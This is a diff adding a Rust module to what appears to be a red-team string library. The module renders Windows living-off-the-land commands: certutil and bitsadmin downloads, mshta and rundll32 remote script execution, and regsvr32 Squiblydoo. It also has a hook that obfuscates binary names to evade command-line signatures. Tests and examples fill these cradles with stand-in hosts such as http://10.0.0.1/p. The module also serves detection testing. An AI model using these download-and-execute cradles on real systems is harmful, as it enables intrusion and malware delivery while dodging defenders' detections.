@@ -0,0 +1,374 @@
+use std::fmt;
+
+/// A living-off-the-land command with `{name}` argument placeholders.
+struct LolbinTemplate {
+    name: &'static str,
+    template: &'static str,
+    /// Values used for placeholders the caller does not supply.
+    defaults: &'static [(&'static str, &'static str)],
+}
+
+/// Signed Windows binaries that download, decode or run attacker content.
+const LOLBIN_TEMPLATES: &[LolbinTemplate] = &[
+    LolbinTemplate {
+        name: "certutil",
+        template: "certutil.exe -urlcache -split -f {url} {out}",
+        defaults: &[],
+    },
+    LolbinTemplate {
+        name: "certutil_decode",
+        template: "certutil.exe -decode {in} {out}",
+        defaults: &[],
+    },
+    LolbinTemplate {
+        name: "bitsadmin",
+        template: "bitsadmin.exe /transfer {job} /download /priority high {url} {out}",
+        defaults: &[("job", "update")],
+    },
+    LolbinTemplate {
+        name: "mshta",
+        template: "mshta.exe {url}",
+        defaults: &[],
+    },
+    LolbinTemplate {
+        name: "mshta_script",
+        template: "mshta.exe javascript:a=GetObject(\"script:{url}\").Exec();close();",
+        defaults: &[],
+    },
+    LolbinTemplate {
+        name: "rundll32",
+        template: "rundll32.exe {dll},{entry}",
+        defaults: &[("entry", "DllMain")],
+    },
+    LolbinTemplate {
+        name: "rundll32_script",
+        template: "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:{url}\")",
+        defaults: &[],
+    },
+    LolbinTemplate {
+        name: "regsvr32",
+        template: "regsvr32.exe /s /n /u /i:{url} scrobj.dll",
+        defaults: &[],
+    },
+    LolbinTemplate {
+        name: "regsvr32_dll",
+        template: "regsvr32.exe /s {dll}",
+        defaults: &[],
+    },
+];
+
+/// Errors returned when rendering a LOLBin command.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum LolbinError {
+    /// No template is registered under the given name.
+    UnknownBinary(String),
+    /// The template needs an argument that was not supplied and has no default.
+    MissingArgument {
+        /// Name of the template.
+        name: String,
+        /// Placeholder that was left unfilled.
+        argument: String,
+    },
+    /// An argument contains characters that cannot be quoted where the template uses it.
+    UnsafeArgument {
+        /// Name of the template.
+        name: String,
+        /// Placeholder whose value was rejected.
+        argument: String,
+    },
+}
+
+impl fmt::Display for LolbinError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            LolbinError::UnknownBinary(name) => write!(f, "unknown lolbin: {}", name),
+            LolbinError::MissingArgument { name, argument } => {
+                write!(f, "lolbin {} requires argument {}", name, argument)
+            }
+            LolbinError::UnsafeArgument { name, argument } => {
+                write!(f, "lolbin {} cannot quote argument {}", name, argument)
+            }
+        }
+    }
+}
+
+impl std::error::Error for LolbinError {}
+
+/// Returns the names of the available LOLBin templates.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::lolbin_names;
+/// assert!(lolbin_names().contains(&"certutil"));
+/// ```
+pub fn lolbin_names() -> Vec<&'static str> {
+    LOLBIN_TEMPLATES.iter().map(|t| t.name).collect()
+}
+
+/// Renders a living-off-the-land command from a named template.
+///
+/// `args` fills the template placeholders; unknown keys are ignored. A value
+/// that fills a whole argument is wrapped in double quotes when it contains
+/// whitespace or one of the cmd.exe metacharacters `&|<>^`, so
+/// `C:\Program Files\...` stays one argument. Values containing `"`, and
+/// values embedded in a larger argument (`/i:{url}`, `script:{url}`) that
+/// would need quoting, return [`LolbinError::UnsafeArgument`].
+/// Available templates, with their placeholders:
+///
+/// | Name | Command |
+/// |------|---------|
+/// | `certutil` | `certutil.exe -urlcache -split -f {url} {out}` |
+/// | `certutil_decode` | `certutil.exe -decode {in} {out}` |
+/// | `bitsadmin` | `bitsadmin.exe /transfer {job} /download /priority high {url} {out}` (`job` defaults to `update`) |
+/// | `mshta` | `mshta.exe {url}` |
+/// | `mshta_script` | `mshta.exe javascript:a=GetObject("script:{url}").Exec();close();` |
+/// | `rundll32` | `rundll32.exe {dll},{entry}` (`entry` defaults to `DllMain`) |
+/// | `rundll32_script` | `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";...GetObject("script:{url}")` |
+/// | `regsvr32` | `regsvr32.exe /s /n /u /i:{url} scrobj.dll` (Squiblydoo) |
+/// | `regsvr32_dll` | `regsvr32.exe /s {dll}` |
+///
+/// The result is a plain command line, so it can be passed through
+/// [`TransformBuilder`](crate::TransformBuilder) or any obfuscator;
+/// [`lolbin_with`] obfuscates only the executable name.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Generate download and execution cradles from signed binaries
+/// - **Blue Team**: Produce LOLBin command lines for process-creation detection tests
+///
+/// # Examples
+///
+/// ```
+/// use redstr::lolbin;
+/// let cmd = lolbin(
+///     "certutil",
+///     &[("url", "http://10.0.0.1/a.exe"), ("out", "a.exe")],
+/// )
+/// .unwrap();
+/// assert_eq!(cmd, "certutil.exe -urlcache -split -f http://10.0.0.1/a.exe a.exe");
+/// assert!(lolbin("certutil", &[]).is_err());
+/// ```
+pub fn lolbin(name: &str, args: &[(&str, &str)]) -> Result<String, LolbinError> {
+    lolbin_with(name, args, |text| text.to_string())
+}
+
+/// Renders a LOLBin template, passing the executable name through `obfuscate`.
+///
+/// Only the binary (`certutil.exe`, `regsvr32.exe`, ...) goes through the
+/// hook, for example [`cmd_obfuscate`](crate::cmd_obfuscate) or
+/// [`cmd_env_substring`](crate::cmd_env_substring): character-level
+/// obfuscators keep a single word runnable, but would break the quoting of
+/// script arguments and the supplied URLs and paths. Errors are the same as
+/// for [`lolbin`].
+///
+/// # Use Cases
+///
+/// - **Red Team**: Hide LOLBin names such as `certutil` from command-line signatures
+/// - **Blue Team**: Verify LOLBin detections survive cmd.exe escaping
+///
+/// # Examples
+///
+/// ```
+/// use redstr::lolbin_with;
+/// let cmd = lolbin_with("mshta", &[("url", "http://x/a.hta")], |text| text.to_uppercase()).unwrap();
+/// assert_eq!(cmd, "MSHTA.EXE http://x/a.hta");
+/// ```
+pub fn lolbin_with<F>(
+    name: &str,
+    args: &[(&str, &str)],
+    obfuscate: F,
+) -> Result<String, LolbinError>
+where
+    F: Fn(&str) -> String,
+{
+    let template = LOLBIN_TEMPLATES
+        .iter()
+        .find(|t| t.name.eq_ignore_ascii_case(name))
+        .ok_or_else(|| LolbinError::UnknownBinary(name.to_string()))?;
+
+    let (binary, rest) = template
+        .template
+        .split_once(' ')
+        .unwrap_or((template.template, ""));
+    let mut result = obfuscate(binary);
+    result.push(' ');
+    let mut rest = rest;
+    while let Some(open) = rest.find('{') {
+        let close = open + rest[open..].find('}').unwrap_or(rest.len() - open);
+        let placeholder = &rest[open + 1..close];
+        let value = args
+            .iter()
+            .chain(template.defaults)
+            .find(|(key, _)| *key == placeholder)
+            .map(|(_, value)| *value)
+            .ok_or_else(|| LolbinError::MissingArgument {
+                name: template.name.to_string(),
+                argument: placeholder.to_string(),
+            })?;
+        let after = &rest[(close + 1).min(rest.len())..];
+        let standalone = (open == 0 || rest[..open].ends_with(' '))
+            && (after.is_empty() || after.starts_with(' '));
+        let needs_quotes = value.contains(|c: char| c.is_whitespace() || "&|<>^".contains(c));
+        if value.contains('"') || (needs_quotes && !standalone) {
+            return Err(LolbinError::UnsafeArgument {
+                name: template.name.to_string(),
+                argument: placeholder.to_string(),
+            });
+        }
+        result.push_str(&rest[..open]);
+        if needs_quotes {
+            result.push('"');
+            result.push_str(value);
+            result.push('"');
+        } else {
+            result.push_str(value);
+        }
+        rest = after;
+    }
+    result.push_str(rest);
+
+    Ok(result)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const ARGS: &[(&str, &str)] = &[
+        ("url", "http://10.0.0.1/p"),
+        ("out", "C:\\Temp\\p.exe"),
+        ("in", "p.b64"),
+        ("dll", "C:\\Temp\\p.dll"),
+    ];
+
+    #[test]
+    fn test_lolbin_certutil() {
+        assert_eq!(
+            lolbin("certutil", ARGS).unwrap(),
+            "certutil.exe -urlcache -split -f http://10.0.0.1/p C:\\Temp\\p.exe"
+        );
+        assert_eq!(
+            lolbin("certutil_decode", ARGS).unwrap(),
+            "certutil.exe -decode p.b64 C:\\Temp\\p.exe"
+        );
+    }
+
+    #[test]
+    fn test_lolbin_defaults_and_overrides() {
+        assert_eq!(
+            lolbin("bitsadmin", ARGS).unwrap(),
+            "bitsadmin.exe /transfer update /download /priority high http://10.0.0.1/p C:\\Temp\\p.exe"
+        );
+        assert_eq!(
+            lolbin("rundll32", &[("dll", "x.dll"), ("entry", "Start")]).unwrap(),
+            "rundll32.exe x.dll,Start"
+        );
+        assert_eq!(
+            lolbin("rundll32", &[("dll", "x.dll")]).unwrap(),
+            "rundll32.exe x.dll,DllMain"
+        );
+    }
+
+    #[test]
+    fn test_lolbin_script_templates() {
+        assert_eq!(
+            lolbin("regsvr32", ARGS).unwrap(),
+            "regsvr32.exe /s /n /u /i:http://10.0.0.1/p scrobj.dll"
+        );
+        assert!(lolbin("mshta_script", ARGS)
+            .unwrap()
+            .contains("GetObject(\"script:http://10.0.0.1/p\")"));
+        assert!(lolbin("rundll32_script", ARGS)
+            .unwrap()
+            .ends_with("GetObject(\"script:http://10.0.0.1/p\")"));
+    }
+
+    #[test]
+    fn test_lolbin_every_template_renders() {
+        for name in lolbin_names() {
+            let cmd = lolbin(name, ARGS).unwrap();
+            assert!(!cmd.contains('{'), "{}", cmd);
+            assert!(cmd.contains(".exe"), "{}", cmd);
+        }
+    }
+
+    #[test]
+    fn test_lolbin_errors() {
+        assert_eq!(
+            lolbin("psexec", ARGS),
+            Err(LolbinError::UnknownBinary("psexec".to_string()))
+        );
+        let err = lolbin("certutil", &[("url", "http://x")]).unwrap_err();
+        assert_eq!(
+            err,
+            LolbinError::MissingArgument {
+                name: "certutil".to_string(),
+                argument: "out".to_string(),
+            }
+        );
+        assert_eq!(err.to_string(), "lolbin certutil requires argument out");
+    }
+
+    #[test]
+    fn test_lolbin_quotes_or_rejects_unsafe_arguments() {
+        assert_eq!(
+            lolbin(
+                "certutil",
+                &[
+                    ("url", "http://x/a b.exe"),
+                    ("out", "C:\\Program Files\\a.exe")
+                ]
+            )
+            .unwrap(),
+            "certutil.exe -urlcache -split -f \"http://x/a b.exe\" \"C:\\Program Files\\a.exe\""
+        );
+        assert_eq!(
+            lolbin("mshta", &[("url", "http://x/?a=1&b=2")]).unwrap(),
+            "mshta.exe \"http://x/?a=1&b=2\""
+        );
+        let err = lolbin("mshta", &[("url", "\" & calc & \"")]).unwrap_err();
+        assert_eq!(
+            err,
+            LolbinError::UnsafeArgument {
+                name: "mshta".to_string(),
+                argument: "url".to_string(),
+            }
+        );
+        assert_eq!(err.to_string(), "lolbin mshta cannot quote argument url");
+        assert!(matches!(
+            lolbin("regsvr32", &[("url", "http://x/a b.sct")]),
+            Err(LolbinError::UnsafeArgument { .. })
+        ));
+        assert!(matches!(
+            lolbin("mshta_script", &[("url", "http://x/a&calc")]),
+            Err(LolbinError::UnsafeArgument { .. })
+        ));
+    }
+
+    #[test]
+    fn test_lolbin_with_obfuscates_binary_only() {
+        let cmd = lolbin_with("certutil", ARGS, |text| text.to_uppercase()).unwrap();
+        assert_eq!(
+            cmd,
+            "CERTUTIL.EXE -urlcache -split -f http://10.0.0.1/p C:\\Temp\\p.exe"
+        );
+    }
+
+    #[test]
+    fn test_lolbin_with_cmd_obfuscate() {
+        for _ in 0..10 {
+            let cmd = lolbin_with("regsvr32", ARGS, crate::cmd_obfuscate).unwrap();
+            assert!(
+                cmd.ends_with(" /s /n /u /i:http://10.0.0.1/p scrobj.dll"),
+                "{}",
+                cmd
+            );
+            let binary = cmd.trim_start_matches("%COMSPEC% /c ");
+            assert_eq!(
+                binary.replace(['^', '"'], "").split(' ').next(),
+                Some("regsvr32.exe")
+            );
+        }
+    }
+}